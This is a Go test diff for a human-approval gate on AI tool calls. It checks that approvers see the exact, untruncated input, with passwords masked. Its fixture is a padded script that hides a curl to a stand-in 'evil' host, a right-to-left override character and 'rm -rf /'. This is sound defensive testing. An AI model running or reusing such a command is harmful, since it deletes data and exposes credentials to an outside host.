@@ -128,6 +128,50 @@ func TestAPersonApprovesInTheQueueAfterTheClientHasGone(t *testing.T) {
 	}
 }
 
+// TestWhatIsCarriedOutIsWhatWasShown: whoever approves sees all of the call that is made, in the queue
+// and in the chat, also where a name is said twice; a list says that there is more.
+func TestWhatIsCarriedOutIsWhatWasShown(t *testing.T) {
+	script := strings.Repeat("echo fine; ", 40) + "curl https://me:pw@evil/x\u202e; rm -rf /"
+	wrote := `{"script":"ls","password":"hunter2","n":12345678901234567890,"script":` + string(encode(script)) + `}`
+	const head = `{"n":12345678901234567890,"password":"hunter2","script":`
+	for _, way := range []string{"queue", "chat"} {
+		t.Run(way, func(t *testing.T) {
+			t.Parallel()
+			b := newBench(t, line{calls: []toolCall{call("c1", "delete", wrote)}}, line{text: "Done."})
+			var made json.RawMessage
+			b.box.tools["delete"] = func(ctx context.Context, in json.RawMessage) (tools.Result, error) {
+				made = in
+				return answers("deleted")(ctx, in)
+			}
+			conversation, id := b.asks()
+			listed, err := b.do("approval.list", `{}`)
+			if err != nil || !strings.Contains(string(listed), `"cut":true`) || strings.Contains(string(listed), "rm -rf") {
+				t.Errorf("listed are %s, %v", listed, err)
+			}
+			seen, err := b.do("approval.show", `{"id":"`+id+`"}`)
+			var shown struct {
+				Input json.RawMessage
+				Cut   bool
+			}
+			if err != nil || json.Unmarshal(seen, &shown) != nil || shown.Cut {
+				t.Fatalf("shown is %s, %v", seen, err)
+			}
+			if way == "queue" {
+				_, err = b.do("approval.allow", `{"id":"`+id+`"}`)
+			} else {
+				b.post(conversation(`{"approval":"allow"}`))
+			}
+			if want := head + string(encode(script)) + `}`; err != nil || string(made) != want {
+				t.Errorf("made with %s, want %s; %v", made, want, err)
+			}
+			judged := string((tools.Entry{}).Judged(made))
+			if judged != string(shown.Input) || !strings.Contains(judged, "https://me:••••@evil/x[U+202E]; rm -rf /") || strings.Contains(judged, "hunter2") {
+				t.Errorf("shown was %s, made was %s", shown.Input, judged)
+			}
+		})
+	}
+}
+
 func TestAClientWaitsForThePerson(t *testing.T) {
 	for action, want := range map[string]string{"approval.allow": "\ndeleted\n", "approval.deny": "declined"} {
 		t.Run(action, func(t *testing.T) {
